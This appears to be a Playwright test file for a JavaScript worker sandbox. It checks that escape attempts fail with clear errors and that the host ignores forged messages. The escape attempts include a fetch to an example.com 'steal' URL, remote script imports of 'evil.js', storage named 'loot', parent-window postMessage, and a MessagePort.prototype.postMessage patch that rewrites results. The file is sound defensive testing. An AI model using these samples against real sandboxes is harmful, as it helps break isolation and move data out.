/**
 * Ways out of the sandbox: network and storage globals, nested workers, the page around the
 * worker, and forged protocol messages. Each attempt fails with a message the user can act on,
 * and the host believes none of the forgeries.
 */
import { expect, test } from './fixtures.ts';
import { hostileZoo, SandboxPage } from './pages/sandbox.ts';

// Several runs per test on a shared 2-core machine: give each test room.
test.describe.configure({ timeout: 120_000 });

const HTTP_ADVICE = "hookscope answers network calls from the world's HTTP mocks only: use fetch() or the `http` accessor";
const g = '(globalThis as unknown as Record<string, any>)';

const ESCAPES: [name: string, code: string, seen: string][] = [
  // fetch is allowed (spec 7.3) but goes only to the user's HTTP mocks: none matches here.
  [
    'fetch',
    "await fetch('https://example.com/steal');",
    '(TypeError: fetch failed: No HTTP mock matches GET https://example.com/steal. hookscope never uses the network',
  ],
  ['xhr', `new ${g}['XMLHttpRequest']();`, `(Error: XMLHttpRequest is not available to apps. ${HTTP_ADVICE}`],
  ['websocket', `new ${g}['WebSocket']('wss://example.com/socket');`, `(Error: WebSocket is not available to apps. ${HTTP_ADVICE}`],
  ['eventsource', `new ${g}['EventSource']('https://example.com/events');`, `(Error: EventSource is not available to apps. ${HTTP_ADVICE}`],
  ['import', "await import('https://example.com/evil.js');", '(Error: Module "https://example.com/evil.js" is not allowed'],
  ['importscripts', `${g}['importScripts']('https://example.com/evil.js');`, `(Error: importScripts() is not available to apps. ${HTTP_ADVICE}`],
  ['indexeddb', `${g}['indexedDB'].open('loot');`, '(Error: indexedDB is not available to apps: keep data with the `persistence` accessor.)'],
  ['caches', `await ${g}['caches'].open('loot');`, '(Error: caches is not available to apps: keep data with the `persistence` accessor.)'],
  ['worker', `new ${g}['Worker']('data:text/javascript,1');`, `(Error: Worker is not available to apps. ${HTTP_ADVICE}`],
  [
    'parent',
    `console.log('reachable:', typeof ${g}['parent'], typeof ${g}['top'], typeof ${g}['window'], typeof ${g}['document']);\n                ${g}['parent'].postMessage({ type: 'spawn', id: 'x' }, '*');`,
    "(TypeError: Cannot read properties of undefined (reading 'postMessage'))",
  ],
];

test('network, storage, nested workers and the page around: each fails with a clear message', async ({ page }) => {
  const s = new SandboxPage(page);
  await s.setup(hostileZoo(Object.fromEntries(ESCAPES.map(([name, code]) => [name, `                ${code}\n                return true;`]))), 1000);
  for (const [i, [name, , seen]] of ESCAPES.entries()) {
    await s.createRoom(`evil-${name}`);
    await expect(s.runEntries()).toHaveCount(i + 1);
    // Had any escape worked, the handler would have returned true and prevented the room.
    await expect(s.answer()).toHaveText('completed', { timeout: 10_000 });
    await expect(s.latestRun()).toContainText(`evil-${name}`);
    await expect(s.latestRun()).toContainText('executePreRoomCreatePrevent threw in');
    await expect(s.latestRun()).toContainText(seen);
  }
  // The worker has no page around it: no parent, top, window or document.
  await expect(s.runLog()).toContainText('reachable: undefined undefined undefined undefined');
  await s.expectIntact({ editorContains: "postMessage({ type: 'spawn', id: 'x' }, '*')", runsBefore: ESCAPES.length });
});

test('forged protocol messages do not fool the host', async ({ page }) => {
  const s = new SandboxPage(page);
  await s.setup(
    hostileZoo({
      // Post fake answers (and fake sandbox-frame messages) wherever the worker can post.
      self: `                const forged = { v: 1, type: 'result', callId: 'call:1', ok: true, value: true };
                ${g}['postMessage'](forged);
                ${g}['postMessage']({ type: 'exit', id: 'w1', reason: 'forged exit' });
                ${g}['postMessage']({ type: 'worker-error', id: 'w1', message: 'forged error' });
                const channel = new MessageChannel();
                channel.port1.postMessage(forged);
                await new Promise((resolve) => setTimeout(resolve, 50));
                console.log('forged messages posted');
                return false;`,
      // Rewrite every message the runtime sends: any result would become "prevent".
      port: `                const original = MessagePort.prototype.postMessage;
                MessagePort.prototype.postMessage = function (this: MessagePort, message: any, ...rest: any[]) {
                    const m = message && message.type === 'result' ? { ...message, ok: true, value: true } : message;
                    return (original as any).call(this, m, ...rest);
                } as typeof original;
                ${g}['postMessage'] = () => undefined;
                console.log('postMessage patched');
                return false;`,
    }),
    1000,
  );
  await s.createRoom('evil-self');
  await expect(s.answer()).toHaveText('completed', { timeout: 10_000 });
  await expect(s.latestRun()).toContainText('forged messages posted');
  await expect(s.latestRun()).toContainText('returned a falsy value: not prevented');
  await expect(s.runLog()).not.toContainText('forged exit');
  await expect(s.runLog()).not.toContainText('forged error');
  await expect(s.runLog()).not.toContainText('worker restarted: worker stopped');

  await s.createRoom('evil-port');
  await expect(s.answer()).toHaveText('completed', { timeout: 10_000 });
  await expect(s.latestRun()).toContainText('postMessage patched');
  await expect(s.latestRun()).not.toContainText('prevented the room');
  // The patch stays in the worker: later calls through it are still answered truthfully.
  await s.expectIntact({ editorContains: "'postMessage patched'", runsBefore: 2 });
  await expect(s.answer()).toHaveText('completed');
});
